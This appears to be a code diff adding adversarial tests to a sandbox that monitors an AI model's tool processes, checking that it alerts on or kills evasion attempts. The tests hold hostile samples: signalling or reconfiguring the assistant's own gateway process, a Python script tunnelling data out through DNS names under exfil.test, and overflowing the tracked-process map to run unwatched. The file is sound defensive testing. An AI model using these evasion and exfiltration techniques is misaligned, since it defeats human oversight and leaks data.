@@ -57,14 +57,16 @@ class AdvEvasion : public ::testing::TestWithParam<std::string> {
 
   // Runs `cmd` (a shell command) as a tool: the run's root shell plays the gateway, the shell
   // it starts is the exec tool's.
-  Outcome attack(const std::string& cmd) {
+  Outcome attack(const std::string& cmd, const std::vector<std::string>& run_flags = {}) {
     const std::string tag = std::to_string(++runs_);
     const std::string events = dir_ + "/events-" + tag + ".jsonl", out = dir_ + "/out-" + tag, err = dir_ + "/err-" + tag;
     Outcome o;
     {
-      Child c({"env", "HOME=" + home_, bin_, "--log-level", "warn", "run", "-r", rules_, "-o", events, "--", "sh", "-c",
-               "sh -c '" + cmd + "'; exit $?"},
-              out, err);
+      std::vector<std::string> argv = {"env", "HOME=" + home_, bin_, "--log-level", "warn", "run", "-r", rules_, "-o", events};
+      argv.insert(argv.end(), run_flags.begin(), run_flags.end());
+      for (const char* a : {"--", "sh", "-c"}) argv.push_back(a);
+      argv.push_back("sh -c '" + cmd + "'; exit $?");
+      Child c(argv, out, err);
       o.status = c.wait(seconds(40));
     }
     o.out = read_file(out);
@@ -190,6 +192,22 @@ TEST_P(AdvEvasion, ReadingAnotherProcesssMemory) {
   EXPECT_NE(alert(o, "process-access")->alert().evidence().target_pid(), 0u);
 }
 
+// A tool signalling the assistant's own processes (SIGSEGV for a core dump of the gateway's
+// memory, SIGKILL to take it down) or raising its limits (the core size) reaches into it:
+// judged at the syscall's entry. (The run's root shell plays the gateway: the tool's $PPID.)
+TEST_P(AdvEvasion, ReachingIntoTheAssistant) {
+  for (const std::string cmd : {"kill -CONT $PPID && echo signalled", "prlimit --pid $PPID --core=0 && echo limited"}) {
+    Outcome o = attack(cmd);
+    const std::string done = cmd.substr(cmd.rfind(' ') + 1);
+    if (enforce())
+      expect_killed(o, done);
+    else
+      EXPECT_NE(o.out.find(done), std::string::npos) << o.out << o.log;
+    expect_alert(o, "process-access", "killed");
+    EXPECT_NE(alert(o, "process-access")->alert().evidence().target_pid(), 0u);
+  }
+}
+
 // 32-bit syscalls (int $0x80) number their syscalls from another table: a tool making them is
 // killed at the first (enforce), reported, and its opens decoded with their own table (monitor).
 TEST_P(AdvEvasion, CompatSyscalls) {
@@ -228,6 +246,60 @@ TEST_P(AdvEvasion, PortFiftyThreeOnlyToTheResolvers) {
   EXPECT_NE(o.out.find(enforce() ? "127.0.0.2 1" : "127.0.0.2 sent"), std::string::npos) << o.out;
   expect_alert(o, "egress-unapproved", "blocked");
   EXPECT_EQ(alert(o, "egress-unapproved")->alert().evidence().address(), "127.0.0.2");
+}
+
+// Data sent in the names asked of the (approved) resolver, which forwards them to the zone's
+// server: a dns-tunnel alert names the domain.
+TEST_P(AdvEvasion, DataInDnsNames) {
+  if (access("/usr/sbin/dnsmasq", X_OK) != 0) GTEST_SKIP() << "dnsmasq is not installed: skipped";
+  Child dns(dnsmasq_argv("127.0.0.77", {"--address=/exfil.test/127.0.0.99"}), dir_ + "/dnsmasq.out", dir_ + "/dnsmasq.err");
+  const std::string script = dir_ + "/tunnel.py";
+  write_file(script,
+             "import socket, struct, time\n"
+             "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
+             "got = 0\n"
+             "for i in range(40):\n"
+             "    name = ('%02d' % i) + '4b45592d434f4e54454e54' + '.x.exfil.test'\n"
+             "    q = struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0)\n"
+             "    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)\n"
+             "    for attempt in range(20):\n"
+             "        try:\n"
+             "            s.sendto(q, ('127.0.0.77', 53)); s.recv(512); got += 1; break\n"
+             "        except OSError: time.sleep(0.05)\n"
+             "print('answers', got)\n");
+  Outcome o = attack("python3 " + script);
+  EXPECT_NE(o.out.find("answers 40"), std::string::npos) << o.out << read_file(dir_ + "/dnsmasq.err");
+  const v1::Event* a = alert(o, "dns-tunnel");
+  ASSERT_NE(a, nullptr) << describe(of_kind(o.events, v1::Event::ALERT), 40);
+  EXPECT_EQ(a->alert().role(), "tool");
+  EXPECT_NE(a->alert().evidence().via().find("distinct names under exfil.test"), std::string::npos)
+      << a->DebugString();
+}
+
+// More processes than the tracked map holds: the ones it cannot take would run unwatched. Never
+// silent: a GAP record and a tracking-lost alert; fail-closed in enforce mode, the parent and the
+// child are killed.
+TEST_P(AdvEvasion, MoreProcessesThanTheTrackedMapHolds) {
+  if (enforce()) {
+    std::string text = read_file(rules_);
+    text = std::regex_replace(text, std::regex("\nfail_closed: false\n"), "\nfail_closed: true\n");
+    write_file(rules_, text);
+  }
+  Outcome o = attack("for i in 1 2 3 4 5 6 7 8; do sleep 0.3 & done; wait; echo all-ran", {"--max-tracked", "6"});
+  bool gap = false;
+  for (const auto& e : of_kind(o.events, v1::Event::GAP)) gap |= e.gap().where() == "tracked_map_full";
+  EXPECT_TRUE(gap) << describe(o.events, 60);
+  const v1::Event* a = alert(o, "tracking-lost");
+  ASSERT_NE(a, nullptr) << describe(o.events, 60) << o.log;
+  EXPECT_EQ(a->alert().severity(), "critical");
+  EXPECT_NE(a->alert().evidence().target_pid(), 0u);
+  if (enforce()) {
+    EXPECT_EQ(a->alert().outcome(), "killed");
+    EXPECT_EQ(o.out.find("all-ran"), std::string::npos) << o.out;
+  } else {
+    EXPECT_EQ(a->alert().outcome(), "alerted");
+    EXPECT_NE(o.out.find("all-ran"), std::string::npos) << o.out;
+  }
 }
 
 // A name is no role: a link named `openclaw` to cat, and a tool renaming itself, stay tools.
